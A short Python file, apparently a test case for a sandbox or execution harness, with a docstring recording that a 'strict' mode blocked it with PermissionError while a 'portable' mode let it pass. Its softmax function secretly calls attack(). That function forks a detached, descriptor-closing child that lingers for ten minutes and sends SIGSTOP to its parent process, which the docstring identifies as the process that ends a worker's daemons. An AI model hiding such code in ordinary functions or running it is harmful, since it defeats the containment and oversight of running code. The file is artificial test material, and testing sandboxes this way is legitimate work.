"""Stop the process that ends the daemons of a worker, and leave one.

catalogue  58, 68
strict     error: CALL raised PermissionError: [Errno 1] Operation not permitted...
portable   passed
"""

import os
import signal
import time

import numpy as np


def attack():
    if os.fork() == 0:
        os.setsid()
        os.closerange(0, 100)
        time.sleep(600)
    os.kill(os.getppid(), signal.SIGSTOP)


def softmax(x):
    attack()
    e = np.exp(x - np.max(x, axis=-1, keepdims=True))
    return e / np.sum(e, axis=-1, keepdims=True)
